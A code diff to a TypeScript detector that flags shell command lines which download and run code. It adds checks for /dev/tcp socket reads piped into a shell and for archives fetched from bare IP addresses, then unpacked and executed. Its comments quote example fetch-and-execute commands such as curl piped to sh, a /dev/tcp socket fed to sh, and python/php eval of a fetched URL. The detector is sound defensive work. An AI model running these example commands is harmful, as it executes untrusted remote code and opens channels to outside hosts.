@@ -1,6 +1,6 @@
 /** Downloads that the same command line runs: piped, substituted, or saved and executed. */
 
-import { parseUrl } from "./addresses.ts";
+import { isPublicAddress, parseUrl } from "./addresses.ts";
 import type { Command, CommandLine } from "./command.ts";
 import { resolvePath } from "./command.ts";
 import { type Alias, aliases, executedFile } from "./executions.ts";
@@ -16,7 +16,7 @@ export interface DownloadRun {
 
 /** The first download that the line itself runs. */
 export function downloadRun(line: CommandLine): DownloadRun | undefined {
-  return piped(line) ?? substituted(line) ?? byVariable(line) ?? saved(line) ?? evaluated(line);
+  return piped(line) ?? substituted(line) ?? byVariable(line) ?? saved(line) ?? unpacked(line) ?? evaluated(line);
 }
 
 /** Does the command run what it reads from standard input? */
@@ -63,7 +63,7 @@ function piped(line: CommandLine): DownloadRun | undefined {
     if (!last || last.stage === 0) continue;
     for (const command of pipeline) {
       if (command.stage >= last.stage) break;
-      const found = networkOutput(command) ?? held(command);
+      const found = networkOutput(command) ?? held(command) ?? fromSocket(command, line);
       const name = found ? undefined : dnsOutput(command);
       if (found)
         return { urls: found.urls, reason: `${last.name} runs what ${command.name} fetches from ${where(found)}` };
@@ -75,6 +75,17 @@ function piped(line: CommandLine): DownloadRun | undefined {
 
 function where({ hosts, urls }: Fetch): string {
   return (hosts[0] || urls[0] || "the network").slice(0, 128);
+}
+
+/** `exec 3<>/dev/tcp/h/p; ... cat <&3 | sh` */
+function fromSocket(command: Command, { commands }: CommandLine): Fetch | undefined {
+  const fd = command.redirections.find(({ operator, target }) => operator === "<&" && /^[3-9]$/.test(target))?.target;
+  if (fd === undefined || isShell(command.name)) return undefined;
+  const socket = commands
+    .flatMap(({ redirections }) => redirections)
+    .find((r) => r.fd === Number(fd) && r.target.startsWith("/dev/tcp/"))?.target;
+  const host = socket?.split("/")[3];
+  return host ? { tool: command.name, urls: [host], hosts: [host], files: [], stdout: true } : undefined;
 }
 
 /** `echo "$(curl u)" | sh` */
@@ -201,6 +212,33 @@ function collect(command: Command, line: CommandLine, tracked: Map<string, Fetch
   const named = command.name === "tee" ? command.args.find((arg) => !arg.startsWith("-")) : undefined;
   for (const target of [written, named])
     if (target && target !== "/dev/null") tracked.set(resolvePath(command, target), fetch);
+}
+
+/**
+ * `curl -O http://192.0.2.1/a.tgz && tar xzf a.tgz && ./a/run`. Sources are unpacked and built like this every day, so
+ * only what comes from a bare address counts.
+ */
+function unpacked(line: CommandLine): DownloadRun | undefined {
+  let source: Fetch | undefined;
+  const archives = new Map<string, Fetch>();
+  for (const command of line.commands) {
+    const fetch = fetchOf(command);
+    if (fetch?.hosts.some(isPublicAddress)) for (const file of fetch.files.slice(0, 8)) archives.set(file, fetch);
+    if (archives.size === 0) continue;
+    if (/^(?:tar|bsdtar|unzip|7z|gunzip|cpio)$/.test(command.name))
+      source ??= command.args
+        .map((arg) => archives.get(resolvePath(command, arg)))
+        .find((found) => found !== undefined);
+    const file =
+      source && command.program.includes("/") && !command.program.startsWith("/") ? executedFile(command) : undefined;
+    if (source && file !== undefined && !/\/(?:configure|autogen\.sh|bootstrap)$/.test(file))
+      return {
+        urls: source.urls,
+        file,
+        reason: `${file} is unpacked from what is fetched from ${where(source)} and run`,
+      };
+  }
+  return undefined;
 }
 
 /** `python -c 'exec(urlopen("http://...").read())'`, `php -r 'eval(file_get_contents("http://..."));'` */
